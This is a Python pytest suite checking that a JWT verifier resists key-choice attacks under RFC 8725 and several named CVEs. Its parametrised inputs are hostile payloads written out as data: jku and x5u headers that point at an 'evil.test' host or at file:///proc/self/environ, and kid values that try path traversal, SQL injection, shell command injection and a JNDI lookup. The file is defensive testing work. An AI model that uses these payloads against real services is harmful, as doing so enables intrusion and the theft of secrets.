"""Attacks on the choice of the key, and on keys: RFC 8725, 2.9, 3.4, 3.5, 3.8 and 3.10.

CVE-2018-0114, CVE-2020-28042, CVE-2022-23529, CVE-2023-48238.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
from datetime import timedelta
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.serialization import Encoding

from agentauth_cli.errors import AuthenticationError
from agentauth_cli.inbound.jwk import Key
from agentauth_cli.inbound.jwt import verify
from agentauth_cli.secret import Secret
from support.attacks import (
    EC,
    ED,
    ISSUER,
    NOW,
    OTHER_ISS,
    RSA,
    claims,
    keys,
    kid_of,
    number,
    textbook_rsa,
    unsigned,
    verdict,
)
from support.issuer import (
    Signer,
    base64url,
    ed448_signer,
    signer,
    small_exponent_signer,
    weak_signer,
)

PAIRS = [
    (RSA, signer("RS256", number=1)),
    (EC, signer("ES256", number=1)),
    (ED, signer("EdDSA", number=1)),
]
EVIL = "https://evil.test/keys"


def certificate(made: Signer) -> bytes:
    """Return a certificate that a key has signed for itself."""
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "login.example.test")])
    built = x509.CertificateBuilder(name, name, made.private.public_key(), 1)
    built = built.not_valid_before(NOW).not_valid_after(NOW + timedelta(days=1))
    return built.sign(made.private, None if made is PAIRS[2][1] else hashes.SHA256()).public_bytes(
        Encoding.DER
    )


def brought(made: Signer) -> dict[str, dict[str, object]]:
    """Return the headers by which a token brings its own key, or says where one is."""
    chain = [base64.b64encode(certificate(made)).decode()]
    return {
        "jwk": {"jwk": made.jwk()},
        "private jwk": {"jwk": made.private_jwk()},
        "jwk without kid": {"jwk": made.jwk(kid=None)},
        "jwks": {"jwks": {"keys": [made.jwk()]}},
        "x5c": {"x5c": chain},
        "x5c and x5t": {"x5c": chain, "x5t": "AAAA", "x5t#S256": "AAAA"},
        "jku": {"jku": EVIL},
        "jku of the issuer's host": {"jku": "https://login.example.test/../evil"},
        "jku as a file": {"jku": "file:///proc/self/environ"},
        "x5u": {"x5u": EVIL},
        "all": {"jwk": made.jwk(), "jku": EVIL, "x5u": EVIL, "x5c": chain},
    }


EMBEDDED = [
    pytest.param(own, stranger, more, id=f"{own.algorithm} {how}")
    for own, stranger in PAIRS
    for how, more in brought(stranger).items()
]


@pytest.mark.parametrize(("own", "stranger", "more"), EMBEDDED)
@pytest.mark.parametrize(
    ("kid", "expected"),
    [("k1", "signature_invalid"), ("evil", "key_unknown"), (None, "signature_invalid")],
)
def test_a_key_that_the_token_brings(
    own: Signer, stranger: Signer, more: dict[str, Any], kid: str | None, expected: str
) -> None:
    """`jku`, `x5u`, `jwk` and `x5c` are ignored: nothing is fetched, nothing is believed."""
    source = keys(own.jwk())
    token = stranger.token(claims(), kid_of(stranger, kid=kid, **more))
    assert verdict(token, source=source) == expected
    assert source.asked == [("okta", kid)]


@pytest.mark.parametrize(("own", "stranger", "more"), EMBEDDED)
def test_what_is_ignored_spoils_nothing(
    own: Signer, stranger: Signer, more: dict[str, Any]
) -> None:
    """They are ignored, not refused: the issuer's own signature is good all the same."""
    del stranger
    assert verdict(own.token(claims(), own.header(**more)), own.jwk()) == "accepted"


def test_a_symmetric_key_that_the_token_brings() -> None:
    """An embedded secret cannot make an HMAC one."""
    brings = {"jwk": {"kty": "oct", "k": base64url(b"mine")}}
    signed = unsigned(RSA.header(alg="HS256", **brings), claims())
    mark = hmac.new(b"mine", signed.encode(), hashlib.sha256).digest()
    assert verdict(f"{signed}.{base64url(mark)}", RSA.jwk()) == "algorithm_refused"


@pytest.mark.parametrize(
    "kid",
    [
        *(
            "",
            " ",
            "k2",
            "K1",
            "k1 ",
            " k1",
            "k1\n",
            "k1\x00",
            "\x00k1",
            "\uff4b1",
            "k1\u200b",
            "%6b1",
        ),
        *("../../../../dev/null", "/dev/null", "/etc/passwd", "..\\..\\windows\\win.ini", "./k1"),
        *("file:///dev/null", "http://evil.test/k1", "//evil.test/k1", "C:\\k1", "k1/../k1"),
        *("' OR '1'='1", "x' UNION SELECT 'key'--", "k1'; DROP TABLE keys;--", 'k1" OR ""="'),
        *("$(id)", "`id`", "|id", "; id", "{{7*7}}", "${jndi:ldap://evil.test/a}", "*", "k?", ".*"),
        *("[object Object]", "__proto__", "constructor", "null", "undefined", "true", "0", "1"),
        "k" * 5000,
    ],
)
def test_a_key_id_that_is_another(kid: str) -> None:
    """`kid` is compared, and is nothing else: no path, no query, no pattern (RFC 8725, 3.10)."""
    assert verdict(RSA.token(claims(), RSA.header(kid=kid)), RSA.jwk()) == "key_unknown"


@pytest.mark.parametrize(
    "kid", [None, True, False, 0, 1, -1, 1.0, 1e300, [], ["k1"], [["k1"]], {}, {"k1": "k1"}]
)
def test_a_key_id_that_is_no_string(kid: object) -> None:
    """`kid` is a string."""
    assert verdict(RSA.token(claims(), RSA.header(kid=kid)), RSA.jwk()) == "kid_form"


@pytest.mark.parametrize("kid", [1, True, None, ["k1"], {"k1": 1}])
def test_a_key_whose_id_is_no_string(kid: object) -> None:
    """A key without a well-formed id is not found by one that looks like it."""
    named = RSA.token(claims(), RSA.header(kid=str(kid)))
    assert verdict(named, RSA.jwk() | {"kid": kid}) == "key_unknown"


@pytest.mark.parametrize(("own", "stranger"), PAIRS)
def test_another_issuers_key_with_the_same_id(own: Signer, stranger: Signer) -> None:
    """A key vouches for its own issuer alone (RFC 8725, 3.8)."""
    both = keys(own.jwk(), other=[stranger.jwk()])
    assert verdict(stranger.token(claims()), source=both) == "signature_invalid"
    assert verdict(own.token(claims(iss=OTHER_ISS)), source=both) == "signature_invalid"
    assert verdict(stranger.token(claims(iss=OTHER_ISS)), source=both) == "accepted"
    assert both.asked == [("okta", "k1"), ("other", "k1"), ("other", "k1")]


@pytest.mark.parametrize(("own", "stranger"), PAIRS)
def test_another_issuers_key_by_its_own_id(own: Signer, stranger: Signer) -> None:
    """A key id is looked for among the keys of the token's issuer, and nowhere else."""
    both = keys(own.jwk(), other=[stranger.jwk(kid="k9")])
    token = stranger.token(claims(), stranger.header(kid="k9"))
    assert verdict(token, source=both) == "key_unknown"
    unnamed = stranger.token(claims(), kid_of(stranger, kid=None))
    assert verdict(unnamed, source=both) == "signature_invalid"


@pytest.mark.parametrize(("own", "stranger"), PAIRS)
def test_one_id_for_two_keys(own: Signer, stranger: Signer) -> None:
    """Of two keys that fit none is tried: a second one that slipped in would sign for the first."""
    for token in (own.token(claims()), stranger.token(claims())):
        assert verdict(token, own.jwk(), stranger.jwk()) == "key_ambiguous"
        unnamed = own.token(claims(), kid_of(own, kid=None))
        assert verdict(unnamed, own.jwk(), stranger.jwk(kid="k2")) == "key_ambiguous"


@pytest.mark.parametrize("made", [RSA, EC, ED], ids=["RSA", "EC", "ED"])
def test_a_private_key_that_its_issuer_published(made: Signer) -> None:
    """Whoever published a private key has lost it: everybody can sign with it."""
    assert verdict(made.token(claims()), made.private_jwk()) == "key_unknown"
    assert verdict(made.token(claims()), made.jwk(d="AAAA")) == "key_unknown"


def rsa_jwk(n: int, e: int) -> dict[str, object]:
    """Return an RSA key of these numbers."""
    return {"kty": "RSA", "kid": "k1", "n": number(n), "e": number(e)}


def rsa_token(n: int, d: int) -> str:
    """Return a token really signed with these numbers."""
    signed = unsigned(RSA.header(), claims())
    return f"{signed}.{base64url(textbook_rsa(signed.encode(), n, d))}"


def short_rsa(bits: int) -> tuple[int, int]:
    """Return modulus and private exponent: one prime will do for what is only to be refused."""
    numbers = rsa.generate_private_key(65537, bits * 2).private_numbers()
    return numbers.p, pow(65537, -1, numbers.p - 1)


@pytest.mark.parametrize("bits", [512, 768, 1024])
def test_a_short_rsa_key(bits: int) -> None:
    """RSA keys have at least 2,048 bits (RFC 8725, 3.5)."""
    n, d = short_rsa(bits)
    assert n.bit_length() == bits
    assert verdict(rsa_token(n, d), rsa_jwk(n, 65537)) == "key_weak"
    weak = weak_signer()
    assert verdict(weak.token(claims()), weak.jwk()) == "key_weak"


def test_an_exponent_of_one() -> None:
    """With the exponent 1 the padded message is its own signature: such a key is none."""
    n = RSA.private.public_key().public_numbers().n
    assert verdict(rsa_token(n, 1), rsa_jwk(n, 1)) == "key_unknown"


def test_an_exponent_of_three() -> None:
    """With the exponent 3 many have forged signatures (CVE-2006-4339)."""
    made = small_exponent_signer()
    assert verdict(made.token(claims()), made.jwk()) == "key_weak"


@pytest.mark.parametrize("e", [0, 2, 4, 65536])
def test_an_even_exponent(e: int) -> None:
    """No RSA key has an even exponent."""
    n = RSA.private.public_key().public_numbers().n
    assert verdict(RSA.token(claims()), rsa_jwk(n, e)) == "key_unknown"


@pytest.mark.parametrize("bits", [16_384, 100_000])
def test_a_huge_rsa_key(bits: int) -> None:
    """A modulus of many bits costs no more than its refusal."""
    huge = (1 << (bits - 1)) | 1
    token = f"{unsigned(RSA.header(), claims())}.{base64url(bytes(256))}"
    assert verdict(token, rsa_jwk(huge, 65537)) == "signature_invalid"


P256 = 2**256 - 2**224 + 2**192 + 2**96 - 1


def coordinates(**over: object) -> dict[str, object]:
    """Return the key of EC with other members."""
    return EC.jwk() | over


@pytest.mark.parametrize(
    "jwk",
    [
        coordinates(x=base64url(bytes(32)), y=base64url(bytes(32))),
        coordinates(x=base64url(b"\xff" * 32)),
        coordinates(x=number(P256), y=number(P256)),
        coordinates(x=EC.jwk()["y"], y=EC.jwk()["x"]),
        coordinates(y=signer("ES256", number=1).jwk()["y"]),
        coordinates(x=EC.jwk()["x"] + "AA"),
        coordinates(x=EC.jwk()["x"][:-2]),
        coordinates(x=base64url(b"\x00" * 16), y=base64url(b"\x00" * 16)),
        coordinates(x="", y=""),
        coordinates(crv="P-384"),
        coordinates(crv="P-521"),
        coordinates(crv="P-192"),
        coordinates(crv="p-256"),
        coordinates(crv=""),
        coordinates(crv=None),
        coordinates(kty="RSA"),
        coordinates(kty="OKP"),
        coordinates(kty="oct", k="AAAA"),
        coordinates(kty="ec"),
        coordinates(d="AAAA"),
        coordinates(use="enc"),
        coordinates(use=None) | {"use": None},
        coordinates(key_ops=["sign"]),
        coordinates(key_ops=[]),
    ],
)
def test_a_point_that_is_on_no_curve(jwk: dict[str, object]) -> None:
    """A key of ECDSA is a point of its curve, whole, and for signatures (RFC 8725, 3.4)."""
    assert verdict(EC.token(claims()), jwk) == "key_unknown"


def test_a_curve_that_is_not_ours() -> None:
    """secp256k1 has 256 bits too."""
    made = Signer("ES256", ec.generate_private_key(ec.SECP256K1()))
    jwk = made.jwk()
    assert jwk["crv"] == "secp256k1"
    assert verdict(made.token(claims()), jwk) == "key_unfit"


@pytest.mark.parametrize(
    "x",
    [
        base64url(bytes(31)),
        base64url(bytes(33)),
        base64url(bytes(57)),
        base64url(bytes(64)),
        "",
        "!",
        pytest.param(ED.jwk()["x"] + "AA", id="a key and two bytes"),
    ],
)
def test_an_ed25519_key_of_wrong_length(x: str) -> None:
    """A key of Ed25519 has 32 bytes."""
    assert verdict(ED.token(claims()), ED.jwk() | {"x": x}) == "key_unknown"


@pytest.mark.parametrize("crv", ["Ed448", "X25519", "X448", "ed25519", ""])
def test_an_ed25519_key_of_another_curve(crv: str) -> None:
    """A key says its own curve."""
    assert verdict(ED.token(claims()), ED.jwk() | {"crv": crv}) == "key_unknown"


@pytest.mark.parametrize("form", ["RSA", "P-256", "Ed25519"])
@pytest.mark.parametrize("public", [RSA, EC, ED, ed448_signer()], ids=["RSA", "EC", "ED", "ED448"])
def test_a_key_that_is_not_what_it_says(form: str, public: Signer) -> None:
    """Where PyJWT is handed a key of another type after all, no exception of a library gets out."""
    made = {"RSA": RSA, "P-256": EC, "Ed25519": ED}[form]
    key = Key("k1", form, None, None, None, public.private.public_key(), {})
    if public is made:
        return
    with pytest.raises(AuthenticationError) as caught:
        verify(Secret(made.token(claims())), [ISSUER], lambda *_: [key], NOW)
    assert caught.value.reason == "signature_invalid"
